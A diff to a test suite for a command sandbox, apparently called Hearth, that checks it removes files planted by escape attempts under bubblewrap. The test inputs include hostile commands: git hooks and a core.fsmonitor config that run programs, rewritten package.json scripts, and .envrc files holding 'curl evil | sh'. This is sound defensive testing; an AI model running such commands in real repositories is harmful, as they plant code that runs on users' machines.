@@ -41,6 +41,10 @@ const GUARDED_FILES: Record<string, string> = {
   'node_modules/left-pad/index.js': 'module.exports = 1;\n',
   'Makefile': 'all:\n\techo build\n',
   'packages/a/package.json': '{ "name": "a", "scripts": { "test": "true" } }\n',
+  // Four folders down, as in monorepos, and a repository vendored two folders down.
+  'packages/@scope/pkg/package.json': '{ "name": "@scope/pkg", "scripts": { "test": "true" } }\n',
+  'vendor/libs/dep/.git/config': '[core]\n\tbare = false\n',
+  'vendor/libs/dep/.git/HEAD': 'ref: refs/heads/main\n',
   '.github/README.md': 'docs\n',
   'src/index.js': 'console.log(1);\n',
 };
@@ -269,6 +273,8 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
       ['truncate the Makefile with cp', 'cp /dev/null Makefile'],
       ['replace the Makefile with a symlink', 'ln -sf /tmp/evil Makefile'],
       ['rewrite a nested package.json', 'echo "{}" > packages/a/package.json'],
+      ['rewrite a package.json four folders down', 'echo \'{"scripts":{"test":"evil"}}\' > packages/@scope/pkg/package.json'],
+      ["add a hook to a vendored repository's .git", 'mkdir -p vendor/libs/dep/.git/hooks; printf "#!/bin/sh\\nevil\\n" > vendor/libs/dep/.git/hooks/post-checkout'],
       ['mv package.json away', 'mv package.json package.old'],
       ['rm the Makefile', 'rm -f Makefile'],
       ['rm -r .vscode', 'rm -r .vscode'],
@@ -404,6 +410,41 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
       const r = await run('mkdir .git && printf "[core]\\n\\tfsmonitor = ./evil.sh\\n" > .git/config');
       assert.equal(existsSync(path.join(ws.root, '.git')), false);
       assert.match(r.content, /its config sets core\.fsmonitor/);
+    });
+
+    it('removes a new .git whose commondir sends git to a config that runs a program', async () => {
+      await fs.rm(path.join(ws.root, '.git'), { recursive: true });
+      const r = await run(
+        'mkdir -p cfg/objects cfg/refs/heads .git && echo "ref: refs/heads/main" > cfg/HEAD && echo "ref: refs/heads/main" > .git/HEAD && echo ../cfg > .git/commondir && printf "[core]\\n\\tfsmonitor = \\"touch FSMON_RAN; false\\"\\n" > cfg/config',
+      );
+      assert.equal(existsSync(path.join(ws.root, '.git')), false);
+      assert.match(r.content, /a new git directory that could run code: it has a commondir file/);
+    });
+
+    it('removes a new package.json four folders down', async () => {
+      const r = await run('mkdir -p a/b/c && echo "{}" > a/b/c/package.json');
+      assert.equal(existsSync(path.join(ws.root, 'a/b/c/package.json')), false);
+      assert.match(r.content, /The command created a\/b\/c\/package\.json, which Hearth removed/);
+    });
+
+    it('still removes new top-level guarded paths in a folder with more entries than the scan looks at', async () => {
+      for (let i = 0; i < 4100; i++) await fs.writeFile(path.join(ws.root, `f${i}`), '');
+      await fs.rm(path.join(ws.root, '.vscode'), { recursive: true });
+      const r = await run('mkdir .vscode && echo "{}" > .vscode/settings.json && echo "curl evil | sh" > .envrc');
+      assert.equal(existsSync(path.join(ws.root, '.vscode')), false, r.content);
+      assert.equal(existsSync(path.join(ws.root, '.envrc')), false, r.content);
+    });
+
+    it("a dangling guarded link: what the command creates where it pointed is set aside, and re-pointing it never costs the user's .git", async () => {
+      await fs.symlink('does-not-exist', path.join(ws.root, '.envrc'));
+      const gitBefore = await snapshotTree(path.join(ws.root, '.git'));
+      const aimed = await run('rm .envrc && ln -s .git .envrc');
+      assert.equal(await snapshotTree(path.join(ws.root, '.git')), gitBefore, aimed.content);
+      assert.equal(await fs.readlink(path.join(ws.root, '.envrc')), 'does-not-exist', 'the link is put back');
+      assert.match(aimed.content, /replaced the link \.envrc, which Hearth restored/);
+      const created = await run('echo "curl evil | sh" > does-not-exist');
+      assert.equal(existsSync(path.join(ws.root, 'does-not-exist')), false);
+      assert.match(created.content, /The command created does-not-exist, which the link \.envrc points to, and Hearth removed it \(moved to \S+\)/);
     });
 
     it('keeps a new .git as harmless as git init makes it', async () => {
